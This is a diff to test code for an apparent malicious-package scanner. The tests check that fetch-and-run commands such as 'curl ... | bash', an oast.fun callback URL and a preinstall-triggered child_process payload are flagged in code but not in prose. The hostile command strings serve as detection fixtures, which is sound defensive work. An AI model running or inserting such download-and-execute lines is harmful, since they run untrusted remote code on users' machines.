@@ -2,6 +2,8 @@ from __future__ import annotations
 
 import hashlib
 
+import pytest
+
 from tests.analysis.builders import npm_tarball, sdist, wheel
 from threatfeed.analysis import ENGINE_VERSION, FLAG_THRESHOLD, Engine
 from threatfeed.archives import read_archive
@@ -116,28 +118,29 @@ def _hit_rules(engine: Engine, archive: bytes, rel: str) -> set[str]:
     return {hit.rule for source in package.files if source.rel == rel for hit in source.signatures}
 
 
-def test_prose_is_scanned_for_endpoints_not_for_what_code_does(engine: Engine) -> None:
-    manual = (
-        "# Deploying\n\nRun `curl -s https://get.example/i.sh | bash`, or from Python:\n\n"
-        "    os.system('curl -s https://get.example/i.sh | bash')\n\n"
-        "Errors are reported to https://collector.example.oast.fun/r.\n"
-    )
-    hits = _hit_rules(engine, sdist({"docs/deploy.md": manual}), "docs/deploy.md")
-    assert "oast_url" in hits
-    assert "download_pipe_to_shell" not in hits
-    as_code = _hit_rules(engine, sdist({"t/deploy.py": manual}), "t/deploy.py")
-    assert "download_pipe_to_shell" in as_code
+_INSTALL_GUIDE = (
+    "Run `curl -s https://get.example/i.sh | bash`, or from Python:\n\n"
+    "    os.system('curl -s https://get.example/i.sh | bash')\n\n"
+    "Errors are reported to https://collector.example.oast.fun/r.\n"
+)
 
 
-def test_pypi_metadata_is_prose(engine: Engine) -> None:
-    metadata = (
-        "Metadata-Version: 2.1\nName: tidy-strings\nVersion: 0.4.0\n\n"
-        "Install with `curl -s https://get.example/i.sh | bash`; "
-        "report at https://collector.example.oast.fun/r.\n"
-    )
-    hits = _hit_rules(engine, sdist({"PKG-INFO": metadata}), "PKG-INFO")
+@pytest.mark.parametrize(
+    ("rel", "text"),
+    [
+        ("docs/deploy.md", "# Deploying\n\n" + _INSTALL_GUIDE),
+        ("PKG-INFO", "Metadata-Version: 2.1\nName: tidy-strings\n\n" + _INSTALL_GUIDE),
+    ],
+)
+def test_prose_is_scanned_for_endpoints_not_for_what_code_does(
+    engine: Engine, rel: str, text: str
+) -> None:
+    hits = _hit_rules(engine, sdist({rel: text}), rel)
     assert "oast_url" in hits
     assert "download_pipe_to_shell" not in hits
+    assert "download_pipe_to_shell" in _hit_rules(
+        engine, sdist({"t/deploy.py": text}), "t/deploy.py"
+    )
 
 
 def test_prose_named_file_that_opens_like_code_gets_every_signature(engine: Engine) -> None:
@@ -145,4 +148,4 @@ def test_prose_named_file_that_opens_like_code_gets_every_signature(engine: Engi
         "const cp = require('child_process');\ncp.execSync('curl -s https://x.example/p | sh');\n"
     )
     archive = npm_tarball({"README.md": script}, scripts={"preinstall": "node lib/README.md"})
-    assert "runs_commands" in _hit_rules(engine, archive, "README.md")
+    assert "download_pipe_to_shell" in _hit_rules(engine, archive, "README.md")
